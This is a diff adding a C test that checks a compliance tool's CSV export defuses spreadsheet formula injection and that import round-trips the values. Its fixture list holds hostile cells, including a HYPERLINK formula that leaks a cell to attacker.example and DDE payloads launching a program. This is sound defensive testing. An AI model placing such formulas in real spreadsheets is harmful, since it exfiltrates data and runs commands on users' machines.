@@ -450,6 +450,73 @@ test_damaged_snapshot (TestDir       *fixture,
     }
 }
 
+/* A cell a spreadsheet would run as a formula is written with a leading
+ * apostrophe (the common practice), and exactly that one is taken off on
+ * import, so a round trip gives back what was typed. */
+static void
+test_csv_formula_injection (TestDir       *fixture,
+                            gconstpointer  data)
+{
+  static const char * const texts[] = {
+    "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "- first bullet\n- second bullet",
+    "'already quoted",
+    "''two apostrophes",
+    "=",
+    "plain text, with = inside",
+  };
+  g_autoptr(AttestWorkspace) workspace = new_workspace (fixture, "source.isms");
+  g_autoptr(AttestWorkspace) copy = new_workspace (fixture, "copy.isms");
+  g_autoptr(GPtrArray) rows = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autofree char *csv = NULL;
+
+  for (guint i = 0; i < G_N_ELEMENTS (texts); i++)
+    {
+      g_autofree char *id = g_strdup_printf ("iso27001:2022/A.5.%u", i + 1);
+
+      g_object_set (attest_workspace_lookup_soa_entry (workspace, id),
+                    "applicability", ATTEST_APPLICABILITY_NOT_APPLICABLE, "justification", texts[i],
+                    "owner", texts[i], NULL);
+    }
+  csv = attest_csv_export_soa (workspace);
+
+  /* As a spreadsheet reads the file: no cell starts a formula. */
+  rows = attest_csv_parse (csv, strlen (csv), NULL, &error);
+  g_assert_no_error (error);
+  for (guint r = 1; r < rows->len; r++)
+    {
+      char **cells = g_ptr_array_index (rows, r);
+
+      for (guint c = 0; cells[c] != NULL; c++)
+        g_assert_null (strchr ("=+-@\t\r", cells[c][0] == '\0' ? 'x' : cells[c][0]));
+    }
+
+  g_assert_true (attest_csv_import_soa (copy, csv, strlen (csv), NULL, &error));
+  g_assert_no_error (error);
+  for (guint i = 0; i < G_N_ELEMENTS (texts); i++)
+    {
+      g_autofree char *id = g_strdup_printf ("iso27001:2022/A.5.%u", i + 1);
+      AttestRecord *entry = attest_workspace_lookup_soa_entry (copy, id);
+
+      g_assert_cmpstr (attest_record_get_string (entry, "justification"), ==, texts[i]);
+      g_assert_cmpstr (attest_record_get_string (entry, "owner"), ==, texts[i]);
+    }
+
+  /* An apostrophe a person typed before ordinary text is theirs. */
+  {
+    const char *typed = "Control,Applicable,Justification\n5.1,no,'Tis needed\n";
+
+    g_assert_true (attest_csv_import_soa (copy, typed, strlen (typed), NULL, &error));
+    g_assert_no_error (error);
+    g_assert_cmpstr (attest_record_get_string (attest_workspace_lookup_soa_entry (copy, "iso27001:2022/A.5.1"),
+                                               "justification"), ==, "'Tis needed");
+  }
+}
+
 int
 main (int    argc,
       char **argv)
@@ -464,6 +531,7 @@ main (int    argc,
   ADD ("/soa/csv/round-trip", test_csv_round_trip);
   ADD ("/soa/csv/2013", test_csv_2013);
   ADD ("/soa/csv/bad", test_csv_bad);
+  ADD ("/soa/csv/formula-injection", test_csv_formula_injection);
   ADD ("/soa/damaged-snapshot", test_damaged_snapshot);
 #undef ADD
   g_test_add_func ("/soa/csv/parse", test_csv_parse);
